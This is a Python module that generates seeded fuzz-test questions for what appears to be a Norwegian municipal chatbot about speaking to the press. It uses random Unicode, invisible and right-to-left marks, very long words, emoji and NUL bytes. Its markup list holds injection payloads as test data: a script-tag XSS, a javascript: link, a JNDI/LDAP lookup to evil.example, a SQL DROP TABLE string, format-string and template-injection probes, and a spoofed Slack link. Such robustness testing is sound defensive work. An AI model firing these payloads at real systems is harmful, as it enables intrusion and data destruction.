"""Generated odd and hostile questions (seeded, so a failure can be replayed): random Unicode, RTL and
zero-width marks, 10,000-character words, emoji only, markup-like text, NUL bytes."""
from __future__ import annotations

import random

BASE = ["Kan jeg uttale meg til pressen?", "Hvem gir politiske kommentarer?", "Kan eg leggje ut bilete frå jobben?",
        "Who speaks for the municipality?", "Må jeg si at jeg er privatperson?"]
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202b", "\u202e", "\u2066", "\u2067", "\u2069", "\ufeff", "\u00ad", "\u2060"]
RTL = ["هل يمكنني التحدث إلى الصحافة؟", "האם מותר לי לדבר עם העיתונות?", "\u202eKan jeg uttale meg?\u202c"]
EMOJI = ["😀", "🎉", "👍🏽", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇳🇴", "❤️", "🤖", "🔥", "📰"]
MARKUP = ["[/]", "[bold]x[/bold]", "<script>alert(1)</script>", "**fet** _kursiv_ [klikk](javascript:alert(1))",
          "<!channel> <@U0KARI> <https://evil.example|Kommunens retningslinjer>", "{{7*7}} ${jndi:ldap://evil.example/a}",
          "'; DROP TABLE questions;--", "%s%n%x", "\\u0000 \\ud800", "7. punkt\n2024. vedtatt\n- liste", "&lt;b&gt; &amp;", "`kode` ~~strek~~ > sitat"]


def _random_unicode(rng: random.Random, n: int, surrogates: bool) -> str:
    chars = []
    for _ in range(n):
        block = rng.choice([(0x20, 0x7F), (0xA0, 0x2FF), (0x370, 0x6FF), (0x2000, 0x2BFF), (0x3000, 0x9FFF), (0xE000, 0xF8FF), (0x1F300, 0x1FAFF), (0x10000, 0x10FFFF), (0xD800, 0xDFFF)])
        if block == (0xD800, 0xDFFF) and not surrogates:
            continue
        chars.append(chr(rng.randint(*block)))
    return "".join(chars)


def fuzz_questions(count: int = 200, *, seed: int = 15, surrogates: bool = True) -> list[str]:
    """`count` questions, every kind in turn; `surrogates=False` for transports that must be valid UTF-8 (Slack)."""
    rng = random.Random(seed)
    kinds = [
        lambda: _random_unicode(rng, rng.randint(1, 300), surrogates),
        lambda: "".join(c + (rng.choice(INVISIBLE) if rng.random() < 0.3 else "") for c in rng.choice(BASE)),
        lambda: rng.choice(RTL) + " " + rng.choice(INVISIBLE) * rng.randint(1, 20),
        lambda: rng.choice(["", "Kan jeg "]) + rng.choice("aøx") * 10_000 + rng.choice(["", " til pressen?"]),
        lambda: "".join(rng.choice(EMOJI) for _ in range(rng.randint(1, 30))),
        lambda: rng.choice(MARKUP) + " " + rng.choice(BASE + [""]),
        lambda: rng.choice(["\x00" * rng.randint(1, 50), "Kan jeg\x00 uttale meg\x00 til pressen?", "\x00\x01\x1b[31m\x7f"]),
        lambda: rng.choice(INVISIBLE) * rng.randint(1, 40),
    ]
    return [kinds[i % len(kinds)]() for i in range(count)]
